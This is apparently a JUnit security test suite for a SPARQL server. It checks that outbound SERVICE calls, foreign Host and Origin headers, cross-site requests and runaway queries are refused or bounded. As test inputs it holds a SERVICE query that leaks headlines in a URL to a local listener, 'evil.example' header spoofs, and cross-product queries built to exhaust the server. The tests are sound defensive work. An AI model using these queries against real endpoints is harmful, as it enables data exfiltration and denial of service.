package org.diplograph.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.UnaryOperator;
import org.diplograph.cli.Main;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The endpoint as an attacker meets it, over real HTTP on a free port: no request leaves the
 * machine, foreign Host and Origin headers are refused before anything runs, and no query can
 * hold the server (timeout, row cap, concurrency bound, memory guard).
 */
class SparqlServerSecurityTest {
    /** Three-way cross product of every quad: far more rows than any timeout lets finish. */
    static final String COUNT_CROSS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }";
    /** The memory attack of the issue: sorting a cross product. */
    static final String ORDER_CROSS = "SELECT ?a ?d ?g WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i";
    static final String SMALL = "SELECT ?c WHERE { dgp:olaf-scholz dg:leaderOf ?c }";

    @TempDir static Path dir;
    static GraphStore store;
    static final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @BeforeAll
    static void build() {
        Path storeDir = dir.resolve("store");
        StringWriter err = new StringWriter();
        int code = Main.run(new PrintWriter(new StringWriter()), new PrintWriter(err), "build", "--store",
                storeDir.toString(), "examples/articles");
        assertEquals(0, code, err.toString());
        store = GraphStore.open(storeDir);
    }

    @AfterAll
    static void close() {
        if (store != null) store.close();
    }

    static SparqlServer start(UnaryOperator<SparqlServer.Builder> settings) {
        return settings.apply(SparqlServer.create(store).port(0)).start();
    }

    static QueryLimits limits(double seconds) {
        return QueryLimits.defaults().withTimeout(Duration.ofMillis((long) (seconds * 1000)));
    }

    static HttpRequest.Builder get(SparqlServer server, String query) {
        return HttpRequest.newBuilder(URI.create(server.endpoint() + "?query="
                + URLEncoder.encode(Prefixes.withStandardPrefixes(query), StandardCharsets.UTF_8)))
                .header("Accept", "application/sparql-results+json").timeout(Duration.ofSeconds(60));
    }

    static HttpResponse<String> send(HttpRequest.Builder request) throws IOException, InterruptedException {
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** A local TCP listener that counts the connections it receives. */
    static final class Listener implements AutoCloseable {
        final ServerSocket socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        final AtomicInteger connections = new AtomicInteger();
        final Thread acceptor = new Thread(() -> {
            while (!socket.isClosed()) {
                try (Socket s = socket.accept()) {
                    connections.incrementAndGet();
                } catch (IOException e) {
                    return;
                }
            }
        }, "test-listener");

        Listener() throws IOException {
            acceptor.setDaemon(true);
            acceptor.start();
        }

        String url() { return "http://127.0.0.1:" + socket.getLocalPort() + "/sparql"; }

        @Override public void close() throws IOException { socket.close(); }
    }

    // ---- 1. No outbound requests

    @Test
    void serviceSendsNothingOutAndSaysWhy() throws Exception {
        try (Listener listener = new Listener(); SparqlServer server = start(b -> b)) {
            String fixed = "SELECT * WHERE { SERVICE <" + listener.url() + "> { ?s ?p ?o } }";
            // The attack of the issue: the remote IRI is built from the data (headlines in the URL).
            String built = "SELECT * WHERE { ?a schema:headline ?h . BIND(IRI(CONCAT(\"" + listener.url()
                    + "?leak=\", ENCODE_FOR_URI(?h))) AS ?u) SERVICE ?u { ?s ?p ?o } }";
            String silent = "SELECT * WHERE { SERVICE SILENT <" + listener.url() + "> { ?s ?p ?o } }";
            for (String q : new String[] {fixed, built}) {
                HttpResponse<String> r = send(get(server, q));
                assertTrue(r.statusCode() >= 400, r.statusCode() + " " + r.body());
                assertTrue(r.body().contains("SERVICE is disabled"), r.body());
            }
            send(get(server, silent));
            // FROM naming a remote graph must not fetch it either.
            send(get(server, "SELECT * FROM <" + listener.url() + "> WHERE { ?s ?p ?o } LIMIT 1"));
            Thread.sleep(300);
            assertEquals(0, listener.connections.get(), "the listener was contacted");
        }
    }

    @Test
    void allowServiceReallyCallsOut() throws Exception {
        // The other side of the test above: with --allow-service the same query reaches the listener,
        // so a listener that receives nothing means something.
        try (Listener listener = new Listener();
                SparqlServer server = start(b -> b.limits(QueryLimits.defaults().withService(true)))) {
            send(get(server, "SELECT * WHERE { SERVICE <" + listener.url() + "> { ?s ?p ?o } }"));
            assertTrue(listener.connections.get() > 0, "SERVICE was allowed but nothing arrived");
        } finally {
            QueryLimits.defaults().applyTo(store.dataset().getContext());
        }
    }

    // ---- 2. Only local names

    /** java.net.http will not send a foreign Host header, so this one request goes over a plain socket. */
    static String rawGet(int port, String path, String host) throws IOException {
        try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
            s.setSoTimeout(10_000);
            OutputStream out = s.getOutputStream();
            out.write(("GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nAccept: application/sparql-results+json\r\n"
                    + "Connection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream(), StandardCharsets.UTF_8));
            StringBuilder all = new StringBuilder();
            for (String line; (line = in.readLine()) != null; ) all.append(line).append('\n');
            return all.toString();
        }
    }

    /** A servlet added through the extension hook, counting the requests that reach it. */
    static final class CountingServlet extends HttpServlet {
        final AtomicInteger hits = new AtomicInteger();

        @Override protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {
            hits.incrementAndGet();
            resp.setContentType("text/plain");
            resp.getWriter().print("ok");
        }

        @Override protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException {
            doGet(req, resp);
        }
    }

    @Test
    void foreignHostIsRefusedOnEveryPath() throws Exception {
        CountingServlet probe = new CountingServlet();
        try (SparqlServer server = start(b -> b.hostName("diplograph.test").extend(f -> f.addServlet("/probe", probe)))) {
            String path = "/diplograph/sparql?query=" + URLEncoder.encode("ASK {}", StandardCharsets.UTF_8);
            for (String host : new String[] {"evil.example", "evil.example:" + server.port(), "127.0.0.2", "localhost.evil.example"}) {
                assertTrue(rawGet(server.port(), path, host).startsWith("HTTP/1.1 403"), host);
                assertTrue(rawGet(server.port(), "/probe", host).startsWith("HTTP/1.1 403"), host);
            }
            assertEquals(0, probe.hits.get(), "a refused request reached the servlet");
            for (String host : new String[] {"localhost:" + server.port(), "127.0.0.1:" + server.port(),
                    "[::1]:" + server.port(), "LOCALHOST", "diplograph.test:" + server.port()}) {
                assertTrue(rawGet(server.port(), path, host).startsWith("HTTP/1.1 200"), host);
            }
            assertTrue(rawGet(server.port(), "/probe", "localhost").startsWith("HTTP/1.1 200"));
            assertEquals(1, probe.hits.get());
        }
    }

    // ---- 3. Cross-site requests

    @Test
    void foreignOriginIsRefusedBeforeEvaluation() throws Exception {
        CountingServlet probe = new CountingServlet();
        try (SparqlServer server = start(b -> b.extend(f -> f.addServlet("/probe", probe)))) {
            String evil = "https://evil.example";
            HttpResponse<String> g = send(get(server, SMALL).header("Origin", evil));
            assertEquals(403, g.statusCode(), g.body());
            assertNull(g.headers().firstValue("Access-Control-Allow-Origin").orElse(null));
            HttpResponse<String> p = send(HttpRequest.newBuilder(URI.create(server.endpoint()))
                    .header("Content-Type", "application/x-www-form-urlencoded").header("Origin", evil)
                    .POST(HttpRequest.BodyPublishers.ofString("query=" + URLEncoder.encode(COUNT_CROSS, StandardCharsets.UTF_8))));
            assertEquals(403, p.statusCode(), p.body());
            HttpResponse<String> probed = send(HttpRequest.newBuilder(URI.create("http://localhost:" + server.port() + "/probe"))
                    .header("Origin", evil).POST(HttpRequest.BodyPublishers.ofString("x")));
            assertEquals(403, probed.statusCode());
            // An <img src=...> sends no Origin, but the browser marks it as cross-site.
            HttpResponse<String> img = send(get(server, SMALL).header("Sec-Fetch-Site", "cross-site")
                    .header("Sec-Fetch-Mode", "no-cors"));
            assertEquals(403, img.statusCode(), img.body());
            assertEquals(0, probe.hits.get(), "a cross-site request reached the servlet");
            // The user typing the address in the browser is fine.
            assertEquals(200, send(get(server, SMALL).header("Sec-Fetch-Site", "none")).statusCode());

            // No CORS headers by default, even for requests without an Origin; the server's own pages may ask.
            HttpResponse<String> plain = send(get(server, SMALL));
            assertEquals(200, plain.statusCode(), plain.body());
            assertFalse(plain.headers().firstValue("Access-Control-Allow-Origin").isPresent());
            HttpResponse<String> self = send(get(server, SMALL).header("Origin", "http://localhost:" + server.port()));
            assertEquals(200, self.statusCode(), self.body());
        }
    }

    @Test
    void namedOriginsGetCorsHeaders() throws Exception {
        String notebook = "http://localhost:8888";
        try (SparqlServer server = start(b -> b.corsOrigin(notebook))) {
            HttpResponse<String> r = send(get(server, SMALL).header("Origin", notebook));
            assertEquals(200, r.statusCode(), r.body());
            assertEquals(notebook, r.headers().firstValue("Access-Control-Allow-Origin").orElse(null));
            assertEquals(200, send(get(server, SMALL).header("Origin", notebook).header("Sec-Fetch-Site", "same-site"))
                    .statusCode());
            HttpResponse<String> preflight = send(HttpRequest.newBuilder(URI.create(server.endpoint()))
                    .header("Origin", notebook).header("Access-Control-Request-Method", "POST")
                    .method("OPTIONS", HttpRequest.BodyPublishers.noBody()));
            assertEquals(204, preflight.statusCode());
            assertTrue(preflight.headers().firstValue("Access-Control-Allow-Methods").orElse("").contains("POST"));
            assertEquals(403, send(get(server, SMALL).header("Origin", "https://evil.example")).statusCode());
        }
    }

    // ---- 4. Bounded queries

    static long allThreadsCpuNanos() {
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        long sum = 0;
        for (long id : threads.getAllThreadIds()) {
            long t = threads.getThreadCpuTime(id);
            if (t > 0) sum += t;
        }
        return sum;
    }

    @Test
    void aPathologicalQueryTimesOutStopsAndLeavesRoomForOthers() throws Exception {
        try (SparqlServer server = start(b -> b.limits(limits(1.5)))) {
            assertEquals(200, send(get(server, SMALL)).statusCode()); // warm up
            long started = System.nanoTime();
            CompletableFuture<HttpResponse<String>> slow = http.sendAsync(get(server, COUNT_CROSS).build(),
                    HttpResponse.BodyHandlers.ofString());
            CompletableFuture<HttpResponse<String>> sort = http.sendAsync(get(server, ORDER_CROSS).build(),
                    HttpResponse.BodyHandlers.ofString());
            long maxHeap = Runtime.getRuntime().maxMemory();
            long peakHeap = 0;
            Thread.sleep(300);
            long best = Long.MAX_VALUE;
            for (int i = 0; i < 3 && !slow.isDone(); i++) {
                long t0 = System.nanoTime();
                HttpResponse<String> small = send(get(server, SMALL));
                assertEquals(200, small.statusCode(), small.body());
                assertTrue(small.body().contains("/country/DEU"), small.body());
                best = Math.min(best, System.nanoTime() - t0);
                peakHeap = Math.max(peakHeap, Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory());
            }
            while (!sort.isDone()) {
                peakHeap = Math.max(peakHeap, Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory());
                Thread.sleep(50);
            }
            HttpResponse<String> r = slow.get();
            HttpResponse<String> sorted = sort.get();
            double took = (System.nanoTime() - started) / 1e9;
            assertTrue(r.statusCode() >= 500, r.statusCode() + " " + r.body());
            assertEquals(503, sorted.statusCode(), "the sort is stopped by the timeout, not by running out of memory: "
                    + sorted.body());
            assertTrue(took < 10, "the 1.5 s timeout took " + took + " s");
            assertTrue(peakHeap < maxHeap, "heap " + peakHeap + " of " + maxHeap);
            // After the timeout the thread is free: the JVM's threads together use (almost) no CPU.
            long cpu0 = allThreadsCpuNanos();
            Thread.sleep(1000);
            double cpuShare = (allThreadsCpuNanos() - cpu0) / 1e9;
            System.out.printf("timeout test: answers after %.2f s (%d, %d), small query best %.0f ms while they ran, "
                    + "peak heap %d MB of %d MB, CPU in the second after: %.3f s%n", took, r.statusCode(),
                    sorted.statusCode(), best / 1e6, peakHeap >> 20, maxHeap >> 20, cpuShare);
            assertTrue(best < 1_000_000_000L, "the small query took " + best / 1e6 + " ms");
            assertTrue(cpuShare < 0.3, "threads still used " + cpuShare + " s of CPU in the second after the timeout");
        }
    }

    @Test
    void anAbandonedQueryStopsAtTheTimeout() throws Exception {
        try (SparqlServer server = start(b -> b.limits(limits(1.5)))) {
            // The client gives up after 0.3 s; the server must stop evaluating at its own timeout.
            HttpClient impatient = HttpClient.newHttpClient();
            try {
                impatient.send(get(server, COUNT_CROSS).timeout(Duration.ofMillis(300)).build(),
                        HttpResponse.BodyHandlers.ofString());
            } catch (java.net.http.HttpTimeoutException expected) {
                // the client went away
            }
            long cpu0 = allThreadsCpuNanos();
            Thread.sleep(700);
            double busy = (allThreadsCpuNanos() - cpu0) / 1e9 / 0.7;
            Thread.sleep(1500);
            long cpu1 = allThreadsCpuNanos();
            Thread.sleep(1000);
            double after = (allThreadsCpuNanos() - cpu1) / 1e9;
            System.out.printf("abandoned query: %.2f cores busy before the timeout, %.3f s CPU in the second after%n",
                    busy, after);
            assertTrue(after < 0.3, "the abandoned query still used " + after + " s of CPU per second");
        }
    }

    @Test
    void queriesThatLaterPagesRunOverTheStoreAreBoundedToo() {
        // An entity page or export added with extend() runs its own queries over the store: the
        // timeout and the SERVICE policy come with the dataset's context.
        try (SparqlServer server = start(b -> b.limits(limits(1)))) {
            long t0 = System.nanoTime();
            Throwable t = store.read(() -> {
                try (org.apache.jena.query.QueryExecution qe = org.apache.jena.query.QueryExecution.create(COUNT_CROSS,
                        store.dataset())) {
                    qe.execSelect().forEachRemaining(row -> {});
                    return null;
                } catch (RuntimeException e) {
                    return e;
                }
            });
            assertTrue(t instanceof org.apache.jena.query.QueryCancelledException, String.valueOf(t));
            assertTrue((System.nanoTime() - t0) / 1e9 < 10);
            Throwable denied = store.read(() -> {
                try (org.apache.jena.query.QueryExecution qe = org.apache.jena.query.QueryExecution.create(
                        "SELECT * { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }", store.dataset())) {
                    qe.execSelect().forEachRemaining(row -> {});
                    return null;
                } catch (RuntimeException e) {
                    return e;
                }
            });
            assertTrue(denied instanceof org.apache.jena.query.QueryDeniedException, String.valueOf(denied));
        } finally {
            QueryLimits.defaults().applyTo(store.dataset().getContext());
        }
    }

    @Test
    void resultsAreCappedAndSaySo() throws Exception {
        try (SparqlServer server = start(b -> b.limits(QueryLimits.defaults().withMaxRows(3)))) {
            HttpResponse<String> r = send(get(server, "SELECT ?s WHERE { ?s ?p ?o }"));
            assertEquals(200, r.statusCode());
            assertEquals("3", r.headers().firstValue(CappedQueryProcessor.ROW_CAP_HEADER).orElse(null));
            assertEquals(3, r.body().split("\"s\"\\s*:").length - 1, r.body());
            HttpResponse<String> small = send(get(server, "SELECT ?s WHERE { ?s ?p ?o } LIMIT 2"));
            assertFalse(small.headers().firstValue(CappedQueryProcessor.ROW_CAP_HEADER).isPresent());
        }
        QueryLimits.defaults().applyTo(store.dataset().getContext());
    }

    @Test
    void whenMemoryRunsLowTheLongestQueryIsCancelledAndTheServerGoesOn() throws Exception {
        java.util.concurrent.atomic.AtomicLong used = new java.util.concurrent.atomic.AtomicLong();
        MemoryGuard guard = new MemoryGuard(used::get, 1_000, false);
        try (SparqlServer server = start(b -> b.limits(limits(30)).memoryGuard(guard))) {
            long t0 = System.nanoTime();
            CompletableFuture<HttpResponse<String>> heavy = http.sendAsync(get(server, COUNT_CROSS).build(),
                    HttpResponse.BodyHandlers.ofString());
            Thread.sleep(500);
            used.set(2_000); // as if the heavy query had filled the heap
            assertTrue(guard.check(), "the guard found no query to cancel");
            used.set(0);
            HttpResponse<String> r = heavy.get();
            assertEquals(503, r.statusCode(), r.body());
            assertTrue(r.body().contains("memory"), r.body());
            assertTrue((System.nanoTime() - t0) / 1e9 < 10, "cancelled long before the 30 s timeout");
            assertEquals(200, send(get(server, SMALL)).statusCode());
        }
    }

    @Test
    void beyondTheConcurrencyBoundRequestsGet503() throws Exception {
        try (SparqlServer server = start(b -> b.limits(limits(1.5)).maxConcurrent(1).maxQueued(0))) {
            CompletableFuture<HttpResponse<String>> slow = http.sendAsync(get(server, COUNT_CROSS).build(),
                    HttpResponse.BodyHandlers.ofString());
            Thread.sleep(400);
            HttpResponse<String> refused = send(get(server, SMALL));
            assertEquals(503, refused.statusCode(), refused.body());
            assertTrue(refused.headers().firstValue("Retry-After").isPresent());
            slow.get();
            // the server releases the slot just after the slow response is written: allow it a moment
            int status = 0;
            for (long deadline = System.nanoTime() + 5_000_000_000L; status != 200 && System.nanoTime() < deadline; ) {
                status = send(get(server, SMALL)).statusCode();
                if (status != 200) Thread.sleep(100);
            }
            assertEquals(200, status, "the slot is free again after the timeout");
        }
    }
}
